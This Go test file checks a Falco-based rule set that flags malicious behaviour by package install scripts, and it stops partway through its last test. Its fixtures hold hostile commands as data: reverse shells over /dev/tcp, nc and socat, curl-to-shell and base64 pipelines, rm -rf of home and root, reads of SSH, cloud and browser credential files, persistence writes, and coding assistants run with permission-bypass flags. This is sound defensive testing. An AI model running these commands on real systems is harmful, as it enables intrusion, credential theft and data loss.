package rules_test

import (
	"slices"
	"strings"
	"testing"

	"github.com/falconer-sec/falconer/pkg/falco"
	"github.com/falconer-sec/falconer/pkg/falco/rules"
	"github.com/falconer-sec/falconer/pkg/finding"
)

// The process tree of an install: npm runs "sh -c <script>", which runs node.
var (
	launcher = &process{name: "runner", exe: "/init", args: "", cwd: "/"}
	npm      = &process{name: "node", exe: "/usr/bin/node", args: "/usr/bin/npm ci --include=dev", cwd: "/builds/project/", parent: launcher}
	hook     = npm.child("sh", "-c node install.js")
	script   = hook.child("node", "install.js")
	manager  = in(hook.child("node", "install.js"), "/builds/project/node_modules/husky/")
	build    = hook.child("node", "/usr/lib/node_modules/npm/node_modules/node-gyp/bin/node-gyp.js rebuild")
)

func exe(p *process, file string, upper bool) *process {
	q := *p
	q.exe, q.upper = file, upper
	return &q
}

func in(p *process, cwd string) *process {
	q := *p
	q.cwd = cwd
	return &q
}

// sought is a program that p tried to execute and that is not there.
func sought(p *process, exe, args string) *event {
	return newEvent("execve", p, map[string]any{"evt.failed": true, "evt.res": "ENOENT", "evt.arg.exe": exe, "evt.arg.args": args})
}

func withEnv(p *process, kv ...string) *process {
	q := *p
	q.env = map[string]string{}
	for i := 0; i+1 < len(kv); i += 2 {
		q.env[kv[i]] = kv[i+1]
	}
	return &q
}

// waiting is a wait of so many seconds.
func waiting(p *process, seconds int) *event {
	return newEvent("nanosleep", p, map[string]any{"evt.rawarg.interval": seconds * 1_000_000_000})
}

// detections holds, for each shipped rule, what it must and must not match.
var detections = []struct {
	rule   string
	match  []*event
	ignore []*event
}{
	{"Credential file read",
		[]*event{
			reading(script, "/root/.ssh/id_rsa"),
			reading(script, "/home/dev/.ssh/deploy_key"),
			reading(script.child("cat", "/root/.aws/credentials"), "/root/.aws/credentials"),
			reading(script, "/root/.npmrc"),
			reading(script, "/root/.netrc"),
			reading(script, "/root/.kube/config"),
			reading(script, "/home/dev/.docker/config.json"),
			reading(script, "/root/.gnupg/private-keys-v1.d/0.key"),
			reading(script, "/home/dev/.mozilla/firefox/x.default/logins.json"),
			reading(script, "/root/.config/google-chrome/Default/Login Data"),
			reading(script, "/root/.config/gcloud/application_default_credentials.json"),
			reading(script, "/root/.azure/msal_token_cache.json"),
			reading(script, "/root/.git-credentials"),
			reading(script, "/root/.ethereum/keystore/UTC--1"),
			reading(script, "/root/.config/gh/hosts.yml"),
			reading(script, "/etc/shadow"),
			reading(script, "/run/secrets/token"),
			// A name or an environment that only looks like npm's.
			reading(exe(hook.child("node", "/usr/bin/npm config list"), "/tmp/node", true), "/root/.npmrc"),
			reading(withEnv(hook.child("node", "/usr/bin/npm ls"), "NODE_OPTIONS", "-r ./evil.js"), "/root/.npmrc"),
			reading(hook.child("node", "/tmp/npm-cli.js ls"), "/root/.npmrc"),
			// Below the other managers, as their programs or their interpreters are called.
			reading(launcher.child("pip", "install -r requirements.txt").child("x", ""), "/root/.ssh/id_rsa"),
			reading(launcher.child("python3.12", "-m pip install x").child("x", ""), "/root/.ssh/id_rsa"),
			reading(launcher.child("bundle", "install").child("x", ""), "/root/.ssh/id_rsa"),
			reading(launcher.child("ruby3.3", "extconf.rb").child("x", ""), "/root/.ssh/id_rsa"),
			reading(launcher.child("php8.3", "/usr/bin/composer install").child("x", ""), "/root/.ssh/id_rsa"),
			reading(launcher.child("cargo", "check").child("build-script-build", ""), "/root/.ssh/id_rsa"),
			reading(launcher.child("go", "build ./...").child("x", ""), "/root/.ssh/id_rsa"),
			reading(launcher.child("bun", "install").child("x", ""), "/root/.ssh/id_rsa"),
			// Detached: its ancestors are gone, npm's variable is not.
			reading(withEnv(launcher.child("node", "x.js"), "npm_lifecycle_event", "postinstall"), "/root/.ssh/id_rsa"),
		},
		[]*event{
			reading(npm, "/root/.npmrc"),
			reading(launcher.child("cargo", "check"), "/root/.ssh/id_rsa"), // nobody's package
			reading(launcher.child("gopher", "").child("x", ""), "/root/.ssh/id_rsa"),
			reading(hook.child("node", "/usr/bin/npm run build"), "/root/.npmrc"),
			reading(hook.child("node", "/usr/lib/node_modules/npm/bin/npm-cli.js rebuild"), "/root/.npmrc"),
			reading(script, "/root/.ssh/known_hosts"),
			reading(script, "/root/.ssh/id_rsa.pub"),
			reading(npm.child("git", "clone").child("ssh", "git@gitlab.example.com"), "/root/.ssh/id_rsa"),
			reading(npm.child("git", "clone").child("git-remote-https", "origin"), "/root/.netrc"),
			reading(script, "/builds/project/node_modules/ssh2/test/fixtures/id_rsa"),
			reading(script, "/builds/project/package.json"),
			reading(script, "/etc/passwd"),
			opening(script, "/root/.ssh/id_rsa", "O_RDONLY", "ENOENT"),
			opening(script, "/root/.ssh", "O_RDONLY|O_DIRECTORY", ""),
			writing(script, "/root/.ssh/id_rsa"),
		}},
	{"Credential file probed",
		[]*event{
			opening(script, "/root/.ssh/id_ed25519", "O_RDONLY", "ENOENT"),
			opening(script, "/etc/shadow", "O_RDONLY", "EACCES"),
			opening(script, "/root/.ssh", "O_RDONLY|O_NONBLOCK|O_DIRECTORY", ""),
		},
		[]*event{
			reading(script, "/root/.ssh/id_rsa"),
			opening(npm, "/root/.npmrc", "O_RDONLY", "ENOENT"),
			opening(hook.child("wget", "x"), "/root/.netrc", "O_RDONLY", "ENOENT"),
			opening(script, "/builds/project/node_modules/x/missing.js", "O_RDONLY", "ENOENT"),
		}},
	{"Credential file linked or moved",
		[]*event{
			twoPaths("symlinkat", script, "/builds/project/node_modules/evil/x", "/root/.ssh/id_rsa"),
			twoPaths("linkat", script, "/tmp/x", "/root/.aws/credentials"),
			twoPaths("rename", script, "/root/.kube/config", "/tmp/x"),
		},
		[]*event{twoPaths("symlink", script, "/builds/project/node_modules/.bin/x", "../x/cli.js")}},
	{"Environment file read",
		[]*event{reading(script, "/builds/project/.env"), reading(script, "/builds/project/.env.staging.local"), reading(script, "/builds/project/.npmrc")},
		[]*event{reading(npm, "/builds/project/.npmrc"), reading(script, "/builds/project/node_modules/x/.env"),
			reading(script, "/builds/project/.envelope"), reading(hook.child("node", "/usr/bin/npm ls"), "/builds/project/.npmrc")}},
	{"Private key file read",
		[]*event{reading(script, "/builds/project/deploy.pem"), reading(script, "/home/dev/vpn/office.ovpn"), reading(script, "/srv/tls/server.key")},
		[]*event{reading(script, "/builds/project/node_modules/x/test/server.key"), reading(script, "/etc/ssl/certs/ca.pem"), reading(npm, "/builds/project/deploy.pem"), reading(script, "/builds/project/keys.js")}},
	{"Credential file removed",
		[]*event{onPath("unlink", script, "/root/.ssh/id_rsa"), onPath("unlinkat", script, "/home/dev/.bash_history"), onPath("truncate", script, "/root/.aws/credentials")},
		[]*event{onPath("unlink", script, "/root/.cache/x"), onPath("unlink", npm, "/root/.ssh/id_rsa")}},
	{"Credential tool run",
		[]*event{executing(script.child("gh", "auth token")), executing(hook.child("git", "credential fill")), sought(script, "gcloud", "auth print-access-token"), sought(script, "/opt/bin/aws", "sts get-caller-identity")},
		[]*event{executing(hook.child("git", "config core.hooksPath .husky")), executing(script), sought(script, "python2", ""), executing(hook.child("node", "aws.js"))}},
	{"Environment listed",
		[]*event{executing(script.child("env", "")), executing(script.child("printenv", "")), executing(npm.child("sh", "-c env > x")), executing(script.child("sh", "-c export -p")), executing(script.child("busybox", "env")),
			newEvent("openat", script, map[string]any{"fd.name": "/proc/7/environ", "evt.arg.name": "/proc/self/environ", "evt.is_open_read": true, "evt.failed": false})},
		[]*event{executing(script.child("env", "FOO=1 node x.js")), executing(npm.child("sh", "-c env FOO=1 node x.js")), executing(npm.child("sh", "-c node setenv")), reading(script, "/proc/self/cgroup")}},
	{"Key agent or container engine contacted",
		[]*event{newEvent("connect", script, map[string]any{"fd.typechar": "u", "fd.name": "/var/run/docker.sock"}), newEvent("connect", script, map[string]any{"fd.typechar": "u", "fd.name": "/tmp/ssh-Ab/agent.7"})},
		[]*event{newEvent("connect", script, map[string]any{"fd.typechar": "u", "fd.name": "/tmp/x.sock"}), newEvent("connect", npm, map[string]any{"fd.typechar": "u", "fd.name": "/run/docker.sock"})}},
	{"Secret scanner run",
		[]*event{executing(script.child("trufflehog", "filesystem /")), sought(script, "gitleaks", "detect"), executing(npm.child("sh", "-c ./trufflehog filesystem ~"))},
		[]*event{executing(script), sought(script, "node-pre-gyp", "install")}},
	{"File system searched",
		[]*event{executing(script.child("find", "/ -name *.pem")), executing(script.child("find", "/root -type f")), executing(script.child("busybox", "find /home -name x")), executing(script.child("grep", "-rIl BEGIN /root")),
			executing(script.child("tar", "cf x.tar /root")), executing(script.child("rg", "AKIA /home/dev")), executing(script.child("cp", "-r /home/dev/ x"))},
		[]*event{executing(script.child("find", ". -name *.js")), executing(script.child("find", "/usr/include -name zlib.h")), executing(script.child("find", "/builds/project -name x")), executing(script.child("grep", "-q x /etc/os-release")),
			executing(script.child("tar", "xf x.tar")), executing(script.child("cp", "-r src dist")), executing(script.child("ls", "-l /etc"))}},
	{"Home or system wiped by a command",
		[]*event{executing(script.child("rm", "-rf /root")), executing(script.child("rm", "-rf /")), executing(npm.child("sh", "-c rm -rf ~/*")), executing(npm.child("sh", `-c rm -rf "$X"; rm -rf $HOME`)), executing(script.child("find", "/home/dev -type f -delete"))},
		[]*event{executing(script.child("rm", "-rf build")), executing(script.child("rm", "-rf /tmp/x")), executing(script.child("rm", "-rf /root/.cache/x")), executing(npm.child("sh", "-c rm -rf /tmp/x && node x.js"))}},
	{"Coding assistant run without its checks",
		[]*event{executing(script.child("claude", "--dangerously-skip-permissions -p x")), sought(script, "gemini", "--yolo -p x"), executing(npm.child("sh", "-c q chat --trust-all-tools x")), executing(script.child("helper", "-p x --permission-mode bypassPermissions"))},
		[]*event{executing(script.child("claude", "--version")), sought(script, "claude", "-p x"), executing(script)}},
	{"Coding assistant run",
		[]*event{executing(script.child("claude", "--version")), sought(script, "codex", "exec x"), sought(script, "q", "chat"), executing(npm.child("sh", "-c npx -y @anthropic-ai/claude-code -p x")), executing(npm.child("sh", "-c command -v gemini")), executing(script.child("which", "claude"))},
		[]*event{executing(script), executing(script.child("which", "python3")), sought(script, "jq", ".")}},
	{"CI runner registered",
		[]*event{executing(script.child("gitlab-runner", "register --url https://gitlab.example.com")), sought(script, "act_runner", "register"), executing(script.child("bash", "./config.sh --url https://code.example.com/a --token T --unattended")),
			executing(script.child("Runner.Listener", "run")), writing(script, "/root/.dev/.runner"), writing(script, "/root/actions-runner/run.sh")},
		[]*event{executing(script.child("sh", "config.sh --prefix=/usr")), executing(script.child("curl", "--url https://x.example.com")), sought(script, "cmake", "--version"), reading(script, "/root/.dev/.runner")}},
	{"System file written",
		[]*event{writing(script, "/usr/local/bin/node"), opening(script, "/usr/lib/node_modules/npm/index.js", "O_WRONLY|O_TRUNC", "EROFS"), writing(script, "/etc/hosts"), twoPaths("rename", script, "/tmp/x", "/usr/bin/git")},
		[]*event{reading(script, "/usr/bin/node"), opening(script, "/usr/lib/python3/__pycache__/x.pyc", "O_WRONLY|O_CREAT", "EROFS"), writing(script, "/etc/cron.d/x"), writing(npm, "/usr/lib/x")}},
	{"Code piped to an interpreter",
		[]*event{executing(hook.child("sh", "")), executing(hook.child("bash", "-s x")), executing(hook.child("node", "-")), executing(hook.child("python3", "")), executing(hook.child("busybox", "sh"))},
		[]*event{executing(hook.child("sh", "-c x")), executing(hook.child("bash", "build.sh")), executing(hook.child("node", "x.js -")), executing(script.child("sh", ""))}},
	{"Data file executed as code",
		[]*event{executing(hook.child("sh", "tests/files/bad-3.xz")), executing(hook.child("node", "--no-warnings assets/logo.png")), executing(hook.child("python3", "./data.json x")), executing(hook.child("bash", "build-to-host.m4"))},
		[]*event{executing(script), executing(hook.child("sh", "configure --prefix=x.txt")), executing(hook.child("node", "build.js data.json")), executing(hook.child("sh", "-c cat x.txt")), executing(hook.child("bash", "install.sh"))}},
	{"Code preloaded into programs",
		[]*event{executing(withEnv(script.child("git", "status"), "LD_PRELOAD", "/tmp/x.so"))},
		[]*event{executing(withEnv(script.child("git", "status"), "PATH", "/bin"))}},
	{"Debugger run",
		[]*event{executing(script.child("gdb", "-p 1")), sought(script, "gcore", "1")},
		[]*event{executing(script)}},
	{"File system mounted", []*event{newEvent("mount", script, nil)}, []*event{newEvent("mount", npm, nil), newEvent("bpf", script, nil)}},
	{"Secret store or cluster contacted",
		[]*event{network("connect", script, "127.0.0.1:8200", "tcp"), network("connect", script, "10.96.0.1:6443", "tcp")},
		[]*event{network("connect", script, "127.0.0.1:4873", "tcp"), network("connect", npm, "127.0.0.1:8200", "tcp"), network("sendto", script, "10.96.0.1:6443", "tcp")}},
	{"Memory or environment of another process read",
		[]*event{reading(script, "/proc/1/environ"), reading(script, "/proc/17/mem"), newEvent("process_vm_readv", script, nil)},
		[]*event{reading(script, "/proc/self/environ"), reading(script, "/proc/17/maps"), reading(script, "/proc/17/stat"), reading(npm, "/proc/1/environ")}},
	{"Package published or token used from a script",
		[]*event{
			executing(script.child("npm", "publish")),
			executing(script.child("npm", "--registry=https://registry.example.com publish --access public")),
			executing(script.child("node", "/usr/bin/npm whoami")),
			executing(script.child("node", "/usr/lib/node_modules/npm/bin/npm-cli.js token list")),
		},
		[]*event{
			executing(npm), executing(script.child("npm", "run publish")), executing(script.child("npm", "install")),
			executing(script.child("node", "publish.js")),
		}},
	{"Persistence file written",
		[]*event{
			writing(script, "/root/.bashrc"), writing(script, "/home/dev/.profile"), writing(script, "/root/.zshrc"),
			opening(script, "/root/.bashrc", "O_WRONLY|O_APPEND|O_CREAT", ""),
			opening(script, "/etc/cron.d/x", "O_WRONLY|O_CREAT", "EROFS"),
			writing(script, "/etc/ld.so.preload"), writing(script, "/root/.config/systemd/user/x.service"),
			writing(script, "/etc/systemd/system/x.service"), writing(script, "/root/.ssh/authorized_keys"),
			writing(script, "/root/.config/autostart/x.desktop"), writing(script, "/var/spool/cron/crontabs/root"),
			writing(script, "/root/.claude/settings.json"),
			twoPaths("rename", script, "/tmp/x", "/root/.bashrc"),
			twoPaths("symlink", script, "/etc/profile.d/x.sh", "/tmp/x"),
		},
		[]*event{
			reading(script, "/root/.bashrc"), writing(script, "/builds/project/node_modules/x/.bashrc"),
			writing(npm.child("ssh", "x"), "/root/.ssh/known_hosts"), writing(npm, "/root/.npmrc"),
			writing(script, "/builds/project/.vscode/tasks.json"), writing(script, "/root/.npm/_logs/x.log"),
			writing(script, "/builds/project/.npmrc"),
		}},
	{"Project automation written",
		[]*event{writing(script, "/builds/project/.vscode/tasks.json"), writing(script, "/builds/project/.github/workflows/ci.yml"), writing(script, "/builds/project/.claude/settings.json")},
		[]*event{writing(script, "/builds/project/node_modules/x/.github/workflows/ci.yml"), writing(script, "/root/.claude/settings.json"), reading(script, "/builds/project/.vscode/tasks.json")}},
	{"Git hook written",
		[]*event{writing(script, "/builds/project/.git/hooks/pre-commit"), twoPaths("rename", script, "/builds/project/x", "/builds/project/.git/hooks/post-merge"),
			writing(script, "/builds/project/.git/config"), twoPaths("symlink", script, "/builds/project/.git/hooks/pre-push", "/tmp/x")},
		[]*event{writing(script, "/builds/project/.husky/_/husky.sh"), writing(manager, "/builds/project/.git/hooks/pre-commit"), reading(script, "/builds/project/.git/config")}},
	{"Git hook written by a hook manager",
		[]*event{writing(manager, "/builds/project/.git/hooks/pre-commit")},
		[]*event{writing(script, "/builds/project/.git/hooks/pre-commit"), writing(manager, "/builds/project/x")}},
	{"Sandbox looked for",
		[]*event{
			reading(script, "/sys/class/dmi/id/product_name"), opening(script, "/sys/devices/virtual/dmi/id/sys_vendor", "O_RDONLY", "ENOENT"),
			opening(script, "/.dockerenv", "O_RDONLY", "ENOENT"), opening(script.child("cat", "x"), "/proc/sentry-meminfo", "O_RDONLY", "ENOENT"),
			executing(script.child("systemd-detect-virt", "")), executing(hook.child("dmesg", "")), executing(exe(script.child("x", ""), "/usr/sbin/dmidecode", false)),
		},
		[]*event{
			reading(npm, "/sys/class/dmi/id/product_name"), reading(script, "/proc/cpuinfo"), reading(script, "/proc/meminfo"), reading(script, "/sys/devices/system/cpu/online"),
			reading(script, "/builds/project/.dockerenv"), executing(build.child("lscpu", "")), executing(build.child("uname", "-a")), reading(script, "/sys/fs/cgroup/memory.max"),
		}},
	{"Machine examined",
		[]*event{reading(script, "/proc/version"), reading(script, "/proc/modules"), reading(script, "/proc/1/cgroup"), reading(script, "/proc/17/mounts"), reading(script, "/etc/machine-id")},
		[]*event{
			reading(npm, "/proc/version"), reading(script, "/proc/cpuinfo"), reading(script, "/proc/17/cgroup"), reading(script, "/proc/meminfo"), reading(script, "/proc/1/environ"),
			reading(script, "/proc/17/stat"), opening(script, "/proc/version", "O_RDONLY", "ENOENT"),
		}},
	{"Long wait",
		[]*event{waiting(script, 3600), waiting(script.child("sleep", "60"), 60)},
		[]*event{waiting(script, 59), waiting(npm, 3600)}},
	{"Wait",
		[]*event{waiting(script, 5), waiting(script, 59)},
		[]*event{waiting(script, 60), waiting(npm, 10), newEvent("nanosleep", script, nil)}},
	{"Scheduler or service manager run",
		[]*event{executing(script.child("crontab", "-")), executing(script.child("systemctl", "--user enable x"))},
		[]*event{executing(script.child("cat", "crontab"))}},
	{"Setuid bit set",
		[]*event{onPath("fchmodat", script, "/builds/project/x", "evt.arg.mode", "04755(S_ISUID|S_IXUSR)")},
		[]*event{onPath("fchmodat", script, "/builds/project/x", "evt.arg.mode", "0755(S_IXUSR)")}},
	{"Shell started by a lifecycle script",
		[]*event{executing(script.child("sh", "-c ls")), executing(hook.child("bash", "build.sh"))},
		[]*event{executing(hook), executing(script)}},
	{"Suspicious interpreter one-liner",
		[]*event{
			executing(hook.child("node", `-e require('child_process').exec('id')`)),
			executing(hook.child("node", `-e eval(Buffer.from('aWQ=','base64').toString())`)),
			executing(hook.child("node", `-e console.log('a'+require('https').get('x')+'b')`)),
			executing(hook.child("node", `--no-warnings -e require('https').get('https://x.example.com')`)),
			executing(hook.child("python3", `-c import urllib.request`)),
			executing(hook.child("perl", "-e use Socket; exec('/bin/sh')")),
			executing(hook.child("node", "-e "+strings.Repeat("a", 500)+"\né")),
		},
		[]*event{
			executing(hook.child("node", `-e try{require('./postinstall')}catch(e){}`)),
			executing(build.child("python3", `-c import sys; print(sys.executable);`)),
			executing(hook.child("node", `-p require('node-addon-api').include`)),
			executing(hook.child("node", "install.js -e https://x.example.com")),
			executing(script),
		}},
	{"Interpreter one-liner",
		[]*event{executing(hook.child("node", `-e try{require('./postinstall')}catch(e){}`))},
		[]*event{executing(build.child("python3", `-c import sys; print(sys.executable);`)), executing(hook.child("node", "cli.js --print"))}},
	{"Shell pipeline that downloads or decodes",
		[]*event{
			executing(npm.child("sh", "-c curl -s https://x.example.com/a.sh | sh")),
			executing(script.child("bash", "-c echo aWQK | base64 -d | bash")),
			executing(npm.child("sh", `-c eval "$X"`)),
			executing(npm.child("sh", "-c tail -c +9 x.bin | /usr/bin/perl")), executing(npm.child("sh", "-c cat x|node")),
		},
		[]*event{executing(npm.child("sh", "-c node install.js || exit 0")), executing(npm.child("sh", "-c node-gyp-build || node-gyp rebuild")), executing(npm.child("sh", "-c x || node y.js"))}},
	{"Downloader run",
		[]*event{executing(script.child("curl", "-s https://x.example.com")), executing(hook.child("wget", "x")), executing(exe(hook.child("get", "x"), "/usr/bin/curl", false)), executing(hook.child("busybox", "wget x")), sought(script, "aria2c", "x")},
		[]*event{executing(hook.child("node-gyp", "rebuild")), sought(script, "node-pre-gyp", "x")}},
	{"Dropped binary executed",
		[]*event{
			executing(exe(script.child("x", ""), "/tmp/x", true)), executing(exe(script.child("x", ""), "/dev/shm/x", false)),
			executing(exe(script.child("x", ""), "/root/.cache/x", true)), executing(exe(script.child("x", ""), "/home/dev/.x/y", true)),
			executing(exe(script.child("x", ""), "/tmp/node_modules/x", true)),
			executing(exe(script.child("x", ""), "/home/dev/.cache/.x/y", true)),
			executing(exe(script.child("x", ""), "/root/.cache/node_modules/x", true)),
		},
		[]*event{
			executing(exe(script.child("esbuild", "--version"), "/builds/project/node_modules/@esbuild/linux-x64/bin/esbuild", true)),
			executing(exe(script.child("esbuild", "--version"), "/root/.npm/_npx/1/node_modules/esbuild/bin/esbuild", true)),
			executing(script), executing(exe(script.child("tmp", ""), "/usr/bin/tmp", false)),
			executing(exe(hook.child("node", "x.js"), "/root/.nvm/versions/node/v22.0.0/bin/node", false)),
			executing(exe(script.child("x", ""), "/home/dev/project/.build/x", true)),
		}},
	{"Dropped script executed",
		[]*event{executing(script.child("sh", "/tmp/x.sh")), executing(hook.child("node", "--no-warnings /var/tmp/x.js")), executing(hook.child("python3", "/dev/shm/x.py"))},
		[]*event{executing(npm.child("sh", "/tmp/postinstall-1a2b.sh")), executing(script), executing(hook.child("node", "install.js /tmp/cache"))}},
	{"Installed binary executed",
		[]*event{executing(exe(script.child("esbuild", "--version"), "/builds/project/node_modules/@esbuild/linux-x64/bin/esbuild", true))},
		[]*event{executing(script), executing(exe(script.child("x", ""), "/tmp/x", true))}},
	{"Program executed from memory",
		[]*event{executing(&process{name: "3", exe: "memfd:x", memfd: true, parent: script})},
		[]*event{executing(script)}},
	{"Memory file created",
		[]*event{newEvent("memfd_create", script, map[string]any{"evt.arg.name": "x", "evt.failed": false})},
		[]*event{newEvent("memfd_create", script, map[string]any{"evt.arg.name": "libffi", "evt.failed": false})}},
	{"Staged file made executable",
		[]*event{onPath("chmod", script, "/tmp/x", "evt.arg.mode", "0755(S_IXUSR|S_IRUSR)")},
		[]*event{onPath("chmod", script, "/builds/project/x", "evt.arg.mode", "0755(S_IXUSR)"), onPath("chmod", script, "/tmp/x", "evt.arg.mode", "0600(S_IRUSR)")}},
	{"Process injection",
		[]*event{newEvent("ptrace", script, map[string]any{"evt.arg.request": "PTRACE_ATTACH"}), newEvent("ptrace", script, map[string]any{"evt.arg.request": "PTRACE_POKETEXT"}), newEvent("process_vm_writev", script, nil)},
		[]*event{newEvent("ptrace", script, map[string]any{"evt.arg.request": "PTRACE_TRACEME"})}},
	{"Kernel extended", []*event{newEvent("bpf", script, nil)}, []*event{newEvent("mount", script, nil)}},
	{"Miner started",
		[]*event{executing(script.child("x", "-o stratum+tcp://pool.example.com:3333")), executing(script.child("xmrig", ""))},
		[]*event{executing(script.child("node", "strata.js"))}},
	{"Metadata service contacted",
		[]*event{network("connect", script, "169.254.169.254:80", "tcp"), network("connect", script, "[fd00:ec2::254]:80", "tcp"), network("sendto", script, "100.100.100.200:80", "udp")},
		[]*event{network("connect", script, "192.0.2.1:80", "tcp"), network("connect", npm, "169.254.169.254:80", "tcp")}},
	{"Name looked up by a lifecycle script",
		[]*event{network("connect", script, "192.0.2.53:53", "udp"), network("sendmmsg", script, "127.0.0.53:53", "udp")},
		[]*event{network("connect", npm, "192.0.2.53:53", "udp"), network("connect", script, "192.0.2.1:443", "tcp")}},
	{"Connection off the registry",
		[]*event{network("connect", script, "192.0.2.1:443", "tcp"), network("connect", script, "[2001:db8::1]:443", "tcp"), network("sendto", script, "192.0.2.1:9", "udp"), network("connect", script, "10.0.0.7:22", "tcp")},
		[]*event{network("connect", script, "127.0.0.1:4873", "tcp"), network("connect", script, "[::1]:80", "tcp"), network("connect", script, "[::ffff:127.0.0.1]:80", "tcp"),
			network("connect", script, "169.254.169.254:80", "tcp"), network("connect", npm, "192.0.2.1:443", "tcp"), network("sendto", script, "192.0.2.1:443", "tcp")}},
	{"Loopback connection",
		[]*event{network("connect", script, "127.0.0.1:4444", "tcp"), network("connect", script, "[::1]:9229", "tcp")},
		[]*event{network("connect", script, "127.0.0.1:4873", "tcp"), network("connect", script, "192.0.2.1:443", "tcp")}},
	{"Listener opened",
		[]*event{network("listen", script, "0.0.0.0:4444", "tcp"), network("accept4", script, "127.0.0.1:4444", "tcp"), network("bind", script, "0.0.0.0:4444", "tcp")},
		[]*event{network("bind", script, "0.0.0.0:0", "udp"), newEvent("listen", script, map[string]any{"fd.typechar": "u"})}},
	{"Standard stream tied to a socket",
		[]*event{duplicating(script, "ipv4", 0), duplicating(hook.child("bash", "-c x"), "ipv6", 1)},
		[]*event{duplicating(script, "unix", 0), duplicating(script, "ipv4", 7)}},
	{"Reverse shell command",
		[]*event{
			executing(npm.child("sh", "-c bash -i >& /dev/tcp/127.0.0.1/4444 0>&1")),
			executing(script.child("nc", "-e /bin/sh 127.0.0.1 4444")), executing(script.child("ncat", "127.0.0.1 4444 --exec /bin/bash")),
			executing(script.child("socat", "TCP:127.0.0.1:4444 EXEC:/bin/sh")),
			executing(npm.child("sh", "-c mkfifo /tmp/f; cat /tmp/f | sh 2>&1 | nc 127.0.0.1 4444 >/tmp/f")),
			executing(script.child("python3", `-c import socket,os;s=socket.socket();os.dup2(s.fileno(),0)`)),
			executing(hook.child("node", `-e var s=require('net').createConnection(4444);require('child_process').spawn('/bin/sh')`)),
		},
		[]*event{executing(script.child("nc", "-z 127.0.0.1 4873")), executing(script.child("node", "socket.js")), executing(hook)}},
	{"Interactive shell started",
		[]*event{executing(script.child("bash", "-i")), executing(script.child("sh", "--norc -i")), executing(script.child("bash", "-li"))},
		[]*event{executing(script.child("sh", "-c sed -i s/a/b/ x")), executing(script.child("bash", "install.sh -i")), executing(hook)}},
	{"Shell without a command started by an interpreter",
		[]*event{executing(script.child("sh", "")), executing(hook.child("python3", "x.py").child("bash", ""))},
		[]*event{executing(script.child("sh", "-c ls")), executing(hook.child("sh", ""))}},
	{"Network tool run",
		[]*event{executing(script.child("nc", "127.0.0.1 4444")), executing(script.child("dig", "x.example.com"))},
		[]*event{executing(script.child("make", "host"))}},
	{"Install script removed itself",
		[]*event{
			onPath("unlink", script, "/builds/project/node_modules/evil/install.js"),
			onPath("unlinkat", script, "/builds/project/node_modules/evil/package.json"),
			twoPaths("rename", script, "/builds/project/node_modules/evil/install.js", "/builds/project/node_modules/evil/x"),
			onPath("unlinkat", npm.child("sh", "-c node install.js; rm install.js").child("rm", "install.js"), "/builds/project/node_modules/evil/install.js"),
		},
		[]*event{
			onPath("unlink", script, "/builds/project/node_modules/evil/build/Release/obj.target/x.o"),
			onPath("unlink", script, "/builds/project/node_modules/evil/tmp.js"),
			onPath("unlink", script, "/builds/project/node_modules/other/install.js"),
			onPath("unlink", npm, "/builds/project/node_modules/evil/package.json"),
			onPath("unlinkat", hook.child("rm", "-rf build/x.js"), "/builds/project/node_modules/evil/build/x.js"),
		}},
	{"Manifest replaced",
		[]*event{twoPaths("rename", script, "/builds/project/node_modules/evil/package.md", "/builds/project/node_modules/evil/package.json")},
		[]*event{twoPaths("rename", npm, "/builds/project/node_modules/.x/package.json", "/builds/project/node_modules/x/package.json")}},
}

func TestDetections(t *testing.T) {
	set := shipped(t)
	covered := map[string]bool{}
	for _, d := range detections {
		covered[d.rule] = true
		for _, ev := range d.match {
			if !slices.Contains(matched(set, ev), d.rule) {
				t.Errorf("%s: no match for %s", d.rule, describe(ev))
			}
		}
		for _, ev := range d.ignore {
			if slices.Contains(matched(set, ev), d.rule) {
				t.Errorf("%s: matches %s", d.rule, describe(ev))
			}
		}
	}
	for _, r := range set.Rules() {
		if !covered[r.Name] {
			t.Errorf("rule %q has no test", r.Name)
		}
	}
}

func matched(set *rules.Set, ev rules.Event) []string {
	var names []string
	for _, m := range set.Match(ev) {
		names = append(names, m.Rule.Name)
	}
	return names
}

func describe(ev *event) string {
	line := ev.typ + " by " + ev.proc.cmdline()
	for _, f := range []string{"fd.name", "fs.path.name", "fs.path.source", "fs.path.target"} {
		if v, ok := ev.fields[f].(string); ok {
			line += " " + f + "=" + v
		}
	}
	return line
}

// What packages do in good faith stays at Notice or below.
func TestBenignInstallsAreNotJudged(t *testing.T) {
	gcc := build.child("make", "BUILDTYPE=Release").child("sh", "-c g++ -c x.cc").child("cc1plus", "-quiet x.cc")
	benign := []*event{
		executing(npm), executing(hook), executing(script), executing(build),
		executing(npm.child("sh", "-c node-gyp-build || prebuild-install || node-gyp rebuild")),
		executing(npm.child("sh", "-c husky install")),
		executing(npm.child("sh", `-c node -e "try{require('./postinstall')}catch(e){}"`)),
		executing(hook.child("node", `-e try{require('./postinstall')}catch(e){}`)),
		executing(hook.child("node", `-e console.log('Thank you for using core-js')`)),
		executing(hook.child("node", `-e console.log('\u001b[35mDonate: https://example.com/donate')`)),
		reading(withEnv(hook.child("npm", "/usr/bin/npm run rebuild"), "NODE_OPTIONS", "null"), "/root/.npmrc"),
		executing(build.child("python3", "-c import sys; print(sys.executable);")),
		executing(build.child("python3", `-c import sys; print("%s.%s.%s" % sys.version_info[:3]);`)),
		executing(build.child("python3", "/usr/lib/node_modules/npm/node_modules/node-gyp/gyp/gyp_main.py binding.gyp -f make")),
		executing(build.child("python3", "gyp_main.py").child("sh", `-c node -p "require('node-addon-api').include"`)),
		executing(build.child("python3", "gyp_main.py").child("node", `-p require('node-addon-api').include`)),
		executing(build.child("make", "BUILDTYPE=Release -C build")), executing(gcc),
		executing(gcc.child("as", "-o x.o /tmp/ccX.s")),
		opening(gcc, "/tmp/ccX.s", "O_RDWR|O_CREAT|O_EXCL", ""),
		onPath("unlink", gcc, "/tmp/ccX.s"),
		onPath("unlink", build, "/builds/project/node_modules/evil/build/Release/obj.target/x.o"),
		onPath("chmod", build, "/builds/project/node_modules/evil/build/Release/x.node", "evt.arg.mode", "0755(S_IXUSR|S_IRUSR)"),
		executing(exe(script.child("esbuild", "--version"), "/builds/project/node_modules/@esbuild/linux-x64/bin/esbuild", true)),
		executing(exe(build.child("conftest", ""), "/builds/project/node_modules/x/build/conftest", true)),
		executing(hook.child("git", "config core.hooksPath .husky")),
		writing(manager, "/builds/project/.git/hooks/pre-commit"),
		writing(script, "/builds/project/node_modules/evil/lib/generated.js"),
		writing(script, "/root/.npm/_logs/debug-0.log"), writing(script, "/root/.cache/node-gyp/22.0.0/installVersion"),
